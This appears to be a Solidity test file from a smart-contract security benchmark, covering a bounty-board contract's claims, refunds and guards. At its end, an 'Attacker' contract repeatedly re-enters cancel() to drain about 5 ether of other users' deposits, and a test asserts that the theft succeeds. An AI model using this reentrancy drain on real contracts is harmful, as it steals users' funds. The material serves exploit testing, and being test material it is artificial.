// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./BountyBoard.sol";

// assay-canary-b8da122f-7566-478c-a1f0-606abcf2f6ef

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Deaf {
    function post(BountyBoard board) external payable returns (uint256) {
        return board.post{value: msg.value}();
    }

    function cancel(BountyBoard board, uint256 id) external {
        board.cancel(id);
    }
}

// Approves its second bounty while it is paid the first.
contract Echo {
    BountyBoard private board;
    uint256 private id;
    bytes4 public why;

    constructor(BountyBoard b) payable {
        board = b;
        id = b.post{value: msg.value / 2}();
        b.claim(id);
        b.claim(b.post{value: msg.value / 2}());
    }

    function approve() external {
        board.approve(id, address(this));
    }

    receive() external payable {
        try board.approve(id + 1, address(this)) {} catch (bytes memory reason) {
            why = bytes4(reason);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    BountyBoard private board;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        board = new BountyBoard();
        vm.deal(ANA, 10 ether);
        vm.startPrank(ANA);
        board.post{value: 3 ether}();
        board.post{value: 4 ether}();
        vm.stopPrank();
        mallory = new Attacker(board);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        board.claim(0);
        board.claim(1);
        board.drop(1);
        board.claim(1);
        board.drop(1);
        vm.stopPrank();
        vm.startPrank(ANA);
        board.approve(0, BEN);
        board.cancel(1);
        require(BEN.balance == 3 ether && ANA.balance == 7 ether, "paid and taken back");
        uint256 id = board.post{value: 2 ether}();
        vm.stopPrank();
        vm.prank(BEN);
        board.claim(id);
        vm.warp(START + 13 days);
        vm.startPrank(BEN);
        board.drop(id);
        board.claim(id);
        vm.stopPrank();
        vm.warp(START + 14 days + 1);
        vm.prank(ANA);
        board.cancel(id);
        require(ANA.balance == 7 ether && address(board).balance == 0, "overdue");
    }

    function test_RefusesClaims() public {
        vm.expectRevert(Empty.selector);
        board.post();
        board.claim(0);
        vm.expectRevert(Taken.selector);
        board.claim(0);
        vm.startPrank(ANA);
        board.cancel(1);
        vm.expectRevert(Empty.selector);
        board.claim(1);
        vm.expectRevert(Early.selector);
        board.cancel(0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert(NotHunter.selector);
        board.drop(0);
        vm.warp(START + 15 days);
        vm.expectRevert(Taken.selector);
        board.claim(0);
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(NotSponsor.selector);
        board.approve(0, BEN);
        vm.expectRevert(NotSponsor.selector);
        board.cancel(0);
    }

    function test_RefusesPayingTwice() public {
        vm.prank(BEN);
        board.claim(0);
        vm.startPrank(ANA);
        vm.expectRevert(NotTaken.selector);
        board.approve(1, address(0));
        vm.expectRevert(NotTaken.selector);
        board.approve(0, ANA);
        board.approve(0, BEN);
        vm.expectRevert(Empty.selector);
        board.approve(0, BEN);
        board.cancel(1);
        vm.expectRevert(Empty.selector);
        board.cancel(1);
        vm.stopPrank();
    }

    function test_RefusesDeafAccounts() public {
        Deaf deaf = new Deaf();
        vm.deal(address(this), 1 ether);
        uint256 id = deaf.post{value: 1 ether}(board);
        vm.expectRevert(NotPaid.selector);
        deaf.cancel(board, id);
    }

    function test_RefusesReentry() public {
        vm.deal(address(this), 1 ether);
        Echo echo = new Echo{value: 1 ether}(board);
        echo.approve();
        require(echo.why() == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "entered again");
        require(address(echo).balance == 0.5 ether, "paid once");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 5 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    BountyBoard private board;
    uint256 private id;
    uint256 private left;

    constructor(BountyBoard b) {
        board = b;
    }

    function run() external {
        id = board.post{value: 1 ether}();
        left = 4;
        board.cancel(id);
    }

    receive() external payable {
        if (left > 0) {
            left--;
            board.cancel(id);
        }
    }
}
